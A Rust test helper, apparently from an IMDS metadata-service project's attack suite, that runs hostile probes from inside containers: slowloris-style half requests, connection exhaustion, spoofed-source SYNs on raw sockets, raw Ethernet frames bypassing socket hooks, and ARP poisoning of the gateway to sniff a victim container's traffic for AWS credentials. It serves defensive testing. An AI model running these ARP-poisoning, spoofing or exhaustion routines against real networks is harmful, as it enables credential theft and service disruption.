//! What a hostile process in a container does to the IMDS endpoint, byte by byte; run by
//! `tests/tests/suite/attacks.rs` inside real containers. Each command prints `key=value` lines the test
//! reads, and exits 0 whatever the server did.
//!
//! - `raw ADDR REQUEST`: send REQUEST (`\r`, `\n`, `\t`, `\\` and `\xNN` escapes understood;
//!   `{TOKEN}` replaced by a token PUT for first), read until the server closes or 20 s pass;
//!   print the first status line, how many responses began, and whether it closed.
//! - `raws ADDR REQUEST...`: `raw` for each REQUEST in turn, one connection each (one token for
//!   all); prints `status.<i>`, `responses.<i>`, `closed.<i>` and `head.<i>` (the answer's first
//!   bytes, escaped) for the i-th, from 0.
//! - `slow ADDR`: send half a request head and nothing more; print whether the server closed the
//!   connection (and answered anything) within 60 s.
//! - `idle ADDR`: one complete keep-alive request, then silence; print the answer's status and
//!   whether the server closed the idle connection within 60 s.
//! - `hold ADDR N SECS`: open N connections each with half a request head; print how many the
//!   server closed within 10 s and how many it holds open, then hold them SECS.
//! - `spoof ADDR SOURCE N`: N TCP SYNs to ADDR (IPv4) with SOURCE as their source address,
//!   written whole on a raw socket (NET_RAW, which Docker grants by default); prints `sent=N`.
//! - `burst ADDR N PATH`: a token, then N sequential GETs of PATH with it (one connection each);
//!   print how many got each status.
//! - `frames ADDR N`: N TCP SYNs to ADDR (IPv4) from this container's own address, each written
//!   as a whole Ethernet frame to the default gateway's MAC on an `AF_PACKET` socket (NET_RAW),
//!   where no socket hook sees them; then, for 3 s, count the SYN-ACKs that come back from ADDR.
//!   Prints `sent=N` and `synacks=K`.
//! - `poison ADDR VICTIM SECS`: for SECS seconds, tell the host (the default gateway) that
//!   VICTIM's IPv4 address is at this container's MAC (unsolicited ARP replies every 50 ms, on an
//!   `AF_PACKET` socket), and sniff what then arrives for VICTIM. Prints `hijacked=N` (frames for
//!   VICTIM received here) and `stolen=K` (those carrying a credentials document). ADDR is
//!   unused (the command line's shape).
use std::{
    collections::BTreeMap,
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

fn unescape(s: &str) -> Vec<u8> {
    let mut out = Vec::new();
    let bytes = s.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'\\' && i + 1 < bytes.len() {
            match bytes[i + 1] {
                b'r' => out.push(b'\r'),
                b'n' => out.push(b'\n'),
                b't' => out.push(b'\t'),
                b'\\' => out.push(b'\\'),
                b'x' if i + 3 < bytes.len() => {
                    let hex = std::str::from_utf8(&bytes[i + 2..i + 4]).expect("hex digits");
                    out.push(u8::from_str_radix(hex, 16).expect("hex digits"));
                    i += 2;
                }
                other => {
                    out.push(b'\\');
                    out.push(other);
                }
            }
            i += 2;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    out
}

/// Read until EOF, an error, or `limit`; (bytes, whether the server closed).
fn read_all(stream: &mut TcpStream, limit: Duration) -> (Vec<u8>, bool) {
    let deadline = std::time::Instant::now() + limit;
    let mut got = Vec::new();
    let mut buf = [0u8; 16384];
    loop {
        let left = deadline.saturating_duration_since(std::time::Instant::now());
        if left.is_zero() {
            return (got, false);
        }
        stream.set_read_timeout(Some(left)).expect("a timeout");
        match stream.read(&mut buf) {
            Ok(0) => return (got, true),
            Ok(n) => got.extend_from_slice(&buf[..n]),
            Err(e)
                if matches!(
                    e.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) =>
            {
                return (got, false);
            }
            // A reset is the server closing too.
            Err(_) => return (got, true),
        }
    }
}

fn status_of(response: &[u8]) -> String {
    let text = String::from_utf8_lossy(response);
    text.lines()
        .next()
        .and_then(|l| l.split_whitespace().nth(1))
        .unwrap_or("none")
        .to_owned()
}

/// Read exactly one response (head + Content-Length body) from a keep-alive connection.
fn read_one(stream: &mut TcpStream) -> Option<String> {
    stream
        .set_read_timeout(Some(Duration::from_secs(20)))
        .ok()?;
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    loop {
        let n = stream.read(&mut buf).ok()?;
        if n == 0 {
            return None;
        }
        got.extend_from_slice(&buf[..n]);
        if let Some(end) = got.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&got[..end]).to_lowercase();
            let length: usize = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .and_then(|v| v.trim().parse().ok())
                .unwrap_or(0);
            while got.len() < end + 4 + length {
                let n = stream.read(&mut buf).ok()?;
                if n == 0 {
                    break;
                }
                got.extend_from_slice(&buf[..n]);
            }
            return Some(status_of(&got));
        }
    }
}

/// An IMDSv2 token for this container.
fn token(addr: SocketAddr) -> String {
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(10))
        .expect("a connection for the token");
    s.write_all(b"PUT /latest/api/token HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token-ttl-seconds: 60\r\nConnection: close\r\n\r\n")
        .expect("a token request sent");
    let (response, _) = read_all(&mut s, Duration::from_secs(20));
    let text = String::from_utf8_lossy(&response);
    text.split("\r\n\r\n")
        .nth(1)
        .unwrap_or_default()
        .trim()
        .to_owned()
}

/// An IPv4 TCP SYN from `src:sport` to `dst:dport`, checksums included.
fn syn(src: std::net::Ipv4Addr, sport: u16, dst: std::net::Ipv4Addr, dport: u16) -> Vec<u8> {
    let mut tcp = vec![0u8; 20];
    tcp[0..2].copy_from_slice(&sport.to_be_bytes());
    tcp[2..4].copy_from_slice(&dport.to_be_bytes());
    tcp[4..8].copy_from_slice(&0x1234_5678u32.to_be_bytes());
    tcp[12] = 5 << 4;
    tcp[13] = 0x02; // SYN
    tcp[14..16].copy_from_slice(&64240u16.to_be_bytes());
    let mut pseudo = Vec::new();
    pseudo.extend_from_slice(&src.octets());
    pseudo.extend_from_slice(&dst.octets());
    pseudo.extend_from_slice(&[0, 6, 0, 20]);
    pseudo.extend_from_slice(&tcp);
    let sum = checksum(&pseudo);
    tcp[16..18].copy_from_slice(&sum.to_be_bytes());
    let mut ip = vec![0x45, 0, 0, 40, 0, 0, 0x40, 0, 64, 6, 0, 0];
    ip.extend_from_slice(&src.octets());
    ip.extend_from_slice(&dst.octets());
    let sum = checksum(&ip);
    ip[10..12].copy_from_slice(&sum.to_be_bytes());
    ip.extend_from_slice(&tcp);
    ip
}

fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], *c.get(1).unwrap_or(&0)])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// Send a whole IPv4 packet (header included) on a raw socket.
fn send_raw(packet: &[u8], dst: std::net::Ipv4Addr) -> std::io::Result<()> {
    let socket = socket2::Socket::new(
        socket2::Domain::IPV4,
        socket2::Type::RAW,
        Some(socket2::Protocol::from(libc::IPPROTO_RAW)),
    )?;
    let to = SocketAddr::from((dst, 0));
    socket.send_to(packet, &to.into()).map(|_| ())
}

/// The default route's gateway (`/proc/net/route`: little-endian hex).
fn gateway() -> std::net::Ipv4Addr {
    let table = std::fs::read_to_string("/proc/net/route").expect("/proc/net/route");
    let hex = table
        .lines()
        .skip(1)
        .map(|l| l.split_whitespace().collect::<Vec<_>>())
        .find(|f| f.get(1) == Some(&"00000000"))
        .and_then(|f| f.get(2).map(|g| g.to_string()))
        .expect("a default route");
    std::net::Ipv4Addr::from(u32::from_str_radix(&hex, 16).expect("hex").swap_bytes())
}

/// `aa:bb:cc:dd:ee:ff` as bytes.
fn mac(text: &str) -> [u8; 6] {
    let mut out = [0; 6];
    for (byte, part) in out.iter_mut().zip(text.trim().split(':')) {
        *byte = u8::from_str_radix(part, 16).expect("a MAC address");
    }
    out
}

/// The gateway's MAC: a datagram to it makes the kernel resolve it, then `/proc/net/arp`.
fn gateway_mac(gw: std::net::Ipv4Addr) -> [u8; 6] {
    let udp = std::net::UdpSocket::bind("0.0.0.0:0").expect("a UDP socket");
    let _ = udp.send_to(b"x", (gw, 9));
    for _ in 0..100 {
        let arp = std::fs::read_to_string("/proc/net/arp").unwrap_or_default();
        if let Some(found) = arp.lines().skip(1).find_map(|l| {
            let f: Vec<&str> = l.split_whitespace().collect();
            (f.first() == Some(&gw.to_string().as_str()) && f.get(2) == Some(&"0x2"))
                .then(|| f[3].to_owned())
        }) {
            return mac(&found);
        }
        std::thread::sleep(Duration::from_millis(20));
    }
    panic!("the gateway {gw} was not resolved");
}

/// This container's MAC (eth0's).
fn own_mac() -> [u8; 6] {
    mac(&std::fs::read_to_string("/sys/class/net/eth0/address").expect("eth0"))
}

/// The next frame on `socket` of at least `min` bytes, if one came within the receive timeout.
fn recv_frame<'a>(
    socket: &std::os::fd::OwnedFd,
    buf: &'a mut [u8],
    min: usize,
) -> Option<&'a [u8]> {
    // SAFETY: a buffer of the size given.
    let got = unsafe {
        libc::recv(
            std::os::fd::AsRawFd::as_raw_fd(socket),
            buf.as_mut_ptr().cast(),
            buf.len(),
            0,
        )
    };
    let got = usize::try_from(got).ok().filter(|&n| n >= min)?;
    Some(&buf[..got])
}

/// An `AF_PACKET` socket on eth0 (and eth0's index), receiving with a 50 ms timeout.
fn packet_socket() -> (std::os::fd::OwnedFd, i32) {
    let index: i32 = std::fs::read_to_string("/sys/class/net/eth0/ifindex")
        .expect("eth0")
        .trim()
        .parse()
        .expect("an index");
    // SAFETY: plain socket(2); the descriptor is owned below.
    let fd = unsafe {
        libc::socket(
            libc::AF_PACKET,
            libc::SOCK_RAW,
            (libc::ETH_P_ALL as u16).to_be() as i32,
        )
    };
    assert!(fd >= 0, "AF_PACKET: {}", std::io::Error::last_os_error());
    let socket = unsafe { <std::os::fd::OwnedFd as std::os::fd::FromRawFd>::from_raw_fd(fd) };
    let timeout = libc::timeval {
        tv_sec: 0,
        tv_usec: 50_000,
    };
    // SAFETY: a timeval of the size given.
    unsafe {
        libc::setsockopt(
            fd,
            libc::SOL_SOCKET,
            libc::SO_RCVTIMEO,
            (&raw const timeout).cast(),
            std::mem::size_of::<libc::timeval>() as u32,
        );
    }
    (socket, index)
}

/// Write one whole frame to `to_mac` on eth0.
fn send_frame(socket: &std::os::fd::OwnedFd, index: i32, to_mac: [u8; 6], frame: &[u8]) -> bool {
    let mut to: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    to.sll_family = libc::AF_PACKET as u16;
    to.sll_ifindex = index;
    to.sll_halen = 6;
    to.sll_addr[..6].copy_from_slice(&to_mac);
    // SAFETY: a valid buffer and address of the sizes given.
    let rc = unsafe {
        libc::sendto(
            std::os::fd::AsRawFd::as_raw_fd(socket),
            frame.as_ptr().cast(),
            frame.len(),
            0,
            (&raw const to).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    rc > 0
}

/// See the `poison` command: (frames for `victim` received, those with credentials in them).
fn poison(victim: std::net::Ipv4Addr, run: Duration) -> (usize, usize) {
    let gw = gateway();
    let gw_mac = gateway_mac(gw);
    let own_mac = own_mac();
    let (socket, index) = packet_socket();
    // An ARP reply: "victim is at own_mac", to the gateway.
    let mut reply = Vec::with_capacity(42);
    reply.extend_from_slice(&gw_mac);
    reply.extend_from_slice(&own_mac);
    reply.extend_from_slice(&0x0806u16.to_be_bytes());
    reply.extend_from_slice(&[0, 1, 0x08, 0, 6, 4, 0, 2]);
    reply.extend_from_slice(&own_mac);
    reply.extend_from_slice(&victim.octets());
    reply.extend_from_slice(&gw_mac);
    reply.extend_from_slice(&gw.octets());
    let deadline = std::time::Instant::now() + run;
    let mut next_reply = std::time::Instant::now();
    let (mut hijacked, mut stolen) = (0, 0);
    let mut buf = [0u8; 65536];
    while std::time::Instant::now() < deadline {
        if std::time::Instant::now() >= next_reply {
            send_frame(&socket, index, gw_mac, &reply);
            next_reply += Duration::from_millis(50);
        }
        let Some(frame) = recv_frame(&socket, &mut buf, 34) else {
            continue;
        };
        if frame[12..14] == [0x08, 0x00] && frame[30..34] == victim.octets() {
            hijacked += 1;
            if frame.windows(15).any(|w| w == b"SecretAccessKey") {
                stolen += 1;
            }
        }
    }
    (hijacked, stolen)
}

/// See the `frames` command: (frames sent, SYN-ACKs from `dst` seen within 3 s).
fn frames(dst: std::net::SocketAddrV4, n: usize) -> (usize, usize) {
    let gw = gateway();
    let gw_mac = gateway_mac(gw);
    let own_mac = own_mac();
    // The address this container's traffic leaves with (a UDP connect sends nothing).
    let probe = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    probe.connect((gw, 9)).unwrap();
    let std::net::IpAddr::V4(own) = probe.local_addr().unwrap().ip() else {
        panic!("an IPv4 address")
    };
    let (socket, index) = packet_socket();
    let mut sent = 0;
    for i in 0..n {
        let mut frame = Vec::with_capacity(14 + 40);
        frame.extend_from_slice(&gw_mac);
        frame.extend_from_slice(&own_mac);
        frame.extend_from_slice(&0x0800u16.to_be_bytes());
        frame.extend_from_slice(&syn(own, 41_000 + i as u16, *dst.ip(), dst.port()));
        if send_frame(&socket, index, gw_mac, &frame) {
            sent += 1;
        }
    }
    // What comes back: SYN-ACKs from dst to our ports.
    let deadline = std::time::Instant::now() + Duration::from_secs(3);
    let mut synacks = 0;
    let mut buf = [0u8; 2048];
    while std::time::Instant::now() < deadline {
        let Some(frame) = recv_frame(&socket, &mut buf, 14 + 20 + 20) else {
            continue;
        };
        let ihl = usize::from(frame[14] & 0x0f) * 4;
        let tcp = 14 + ihl;
        if frame[12..14] == [0x08, 0x00]
            && frame[23] == 6
            && frame[26..30] == dst.ip().octets()
            && frame.len() >= tcp + 14
            && frame[tcp + 13] & 0x12 == 0x12
        {
            synacks += 1;
        }
    }
    (sent, synacks)
}

const HALF_HEAD: &[u8] = b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n";

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let addr: SocketAddr = args
        .get(1)
        .and_then(|a| a.parse().ok())
        .expect("usage: imds-attack COMMAND ADDR ...");
    let open = || TcpStream::connect_timeout(&addr, Duration::from_secs(10));
    match args[0].as_str() {
        "raw" => {
            let mut request = args.get(2).expect("a request").clone();
            if request.contains("{TOKEN}") {
                request = request.replace("{TOKEN}", &token(addr));
            }
            let request = unescape(&request);
            let mut stream = match open() {
                Ok(s) => s,
                Err(e) => return println!("error={e}"),
            };
            let _ = stream.write_all(&request);
            let (response, closed) = read_all(&mut stream, Duration::from_secs(20));
            println!("status={}", status_of(&response));
            println!(
                "responses={}",
                response.windows(9).filter(|w| w == b"HTTP/1.1 ").count()
            );
            println!("closed={closed}");
            println!("--");
            println!("{}", String::from_utf8_lossy(&response));
        }
        "raws" => {
            let needs_token = args[2..].iter().any(|r| r.contains("{TOKEN}"));
            let token = needs_token.then(|| token(addr));
            for (i, request) in args[2..].iter().enumerate() {
                let request = match &token {
                    Some(token) => request.replace("{TOKEN}", token),
                    None => request.clone(),
                };
                let mut stream = match open() {
                    Ok(s) => s,
                    Err(e) => {
                        println!("error.{i}={e}");
                        continue;
                    }
                };
                let _ = stream.write_all(&unescape(&request));
                let (response, closed) = read_all(&mut stream, Duration::from_secs(20));
                println!("status.{i}={}", status_of(&response));
                println!(
                    "responses.{i}={}",
                    response.windows(9).filter(|w| w == b"HTTP/1.1 ").count()
                );
                println!("closed.{i}={closed}");
                let head = &response[..response.len().min(160)];
                println!("head.{i}={}", head.escape_ascii());
            }
        }
        "slow" => {
            let mut stream = open().expect("a connection");
            stream.write_all(HALF_HEAD).expect("half a head sent");
            let (response, closed) = read_all(&mut stream, Duration::from_secs(60));
            println!("closed={closed}");
            println!("status={}", status_of(&response));
        }
        "idle" => {
            let mut stream = open().expect("a connection");
            stream
                .write_all(b"GET /latest/meta-data/ HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n")
                .expect("a request sent");
            let first = read_one(&mut stream).unwrap_or_else(|| "none".into());
            println!("first={first}");
            let (_, closed) = read_all(&mut stream, Duration::from_secs(60));
            println!("closed={closed}");
        }
        "hold" => {
            let n: usize = args[2].parse().expect("N");
            let secs: u64 = args[3].parse().expect("SECS");
            let mut conns = Vec::new();
            for _ in 0..n {
                match open() {
                    Ok(mut s) => {
                        let _ = s.write_all(HALF_HEAD);
                        s.set_nonblocking(true).expect("non-blocking");
                        conns.push(s);
                    }
                    Err(e) => println!("open_error={e}"),
                }
            }
            // Those the server closes (unserved: over a cap) see EOF; the others stay open.
            let deadline = std::time::Instant::now() + Duration::from_secs(10);
            let mut closed = vec![false; conns.len()];
            while std::time::Instant::now() < deadline {
                for (conn, closed) in conns.iter().zip(closed.iter_mut()) {
                    let mut byte = [0u8; 1];
                    match conn.peek(&mut byte) {
                        Ok(0) => *closed = true,
                        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
                        Ok(_) | Err(_) => *closed = true,
                    }
                }
                std::thread::sleep(Duration::from_millis(50));
            }
            let closed = closed.iter().filter(|c| **c).count();
            println!("closed={closed}");
            println!("held={}", conns.len() - closed);
            std::thread::sleep(Duration::from_secs(secs));
        }
        "burst" => {
            let n: usize = args[2].parse().expect("N");
            let path = &args[3];
            let token = token(addr);
            let mut counts = BTreeMap::<String, usize>::new();
            for _ in 0..n {
                let status = match open() {
                    Ok(mut s) => {
                        let _ = s.write_all(
                            format!(
                                "GET {path} HTTP/1.1\r\nHost: 169.254.169.254\r\nX-aws-ec2-metadata-token: {token}\r\nConnection: close\r\n\r\n"
                            )
                            .as_bytes(),
                        );
                        let (response, _) = read_all(&mut s, Duration::from_secs(20));
                        status_of(&response)
                    }
                    Err(_) => "error".to_owned(),
                };
                *counts.entry(status).or_default() += 1;
            }
            for (status, n) in counts {
                println!("status_{status}={n}");
            }
        }
        "spoof" => {
            let SocketAddr::V4(dst) = addr else {
                panic!("spoof: IPv4 only")
            };
            let src: std::net::Ipv4Addr = args[2].parse().expect("SOURCE");
            let n: usize = args[3].parse().expect("N");
            let mut sent = 0;
            for i in 0..n {
                let packet = syn(src, 40_000 + i as u16, *dst.ip(), dst.port());
                if send_raw(&packet, *dst.ip()).is_ok() {
                    sent += 1;
                }
            }
            println!("sent={sent}");
        }
        "frames" => {
            let SocketAddr::V4(dst) = addr else {
                panic!("frames: IPv4 only")
            };
            let n: usize = args[2].parse().expect("N");
            let (sent, synacks) = frames(dst, n);
            println!("sent={sent}");
            println!("synacks={synacks}");
        }
        "poison" => {
            let victim: std::net::Ipv4Addr = args[2].parse().expect("VICTIM");
            let secs: u64 = args[3].parse().expect("SECS");
            let (hijacked, stolen) = poison(victim, Duration::from_secs(secs));
            println!("hijacked={hijacked}");
            println!("stolen={stolen}");
        }
        other => panic!("unknown command {other}"),
    }
}
